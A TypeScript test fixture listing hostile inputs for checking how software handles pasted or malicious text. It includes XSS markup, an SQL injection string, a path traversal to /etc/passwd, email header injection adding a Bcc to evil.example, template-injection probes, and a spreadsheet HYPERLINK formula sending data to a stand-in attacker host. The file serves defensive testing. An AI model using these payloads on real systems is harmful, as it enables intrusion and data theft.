/** What people paste by mistake and others on purpose. Each is a word of its own to be found again: `mark` stands in the middle. */
export const hostileTexts: Record<string, (mark: string) => string> = {
  'control characters': (mark) => `a\u0007\u001b[31m${mark}\u0008\u007fb`,
  'a null character': (mark) => `a\u0000${mark}\u0000b`,
  'turned direction': (mark) => `\u202e${mark}\u2066gpj.exe\u2069\u202c\u200b\ufeff`,
  'half of a character': (mark) => `\ud83d${mark}\udc00`,
  'marks upon marks': (mark) => `Z\u0301\u0327${'\u0336'.repeat(20)}${mark}👩‍👩‍👧‍👧🏳️‍🌈`,
  'a very long word': (mark) => mark + 'x'.repeat(60_000),
  markup: (mark) =>
    `"><hw-evil>${mark}</hw-evil><img src=x onerror=alert(1)><script>alert(1)</script>'`,
  'a statement': (mark) => `'; drop table users; -- ${mark}" or 1=1 /*`,
  'a path': (mark) => `../../../../etc/passwd/${mark}/..%2f..%5c`,
  'line breaks of a header': (mark) =>
    `${mark}\r\nBcc: spy@evil.example\r\nX-Hostile: yes\r\n\r\n<b>body</b>`,
  templates: (mark) => `{{7*7}} \${7*7} <%= 7*7 %> #{7*7} %s %n {0} ${mark} $& $1`,
  'a formula': (mark) => `=HYPERLINK("https://evil.example?${mark}","x")`,
  'a name of every object': (mark) => `__proto__ constructor toString ${mark}`,
  'a search': (mark) => `"${mark}* NEAR(a b) -c OR *`,
};

/** Instead of text. */
export const hostileKinds: unknown[] = [null, -1, 1e308, ['a', ['b']], { toString: 'x' }, ''];
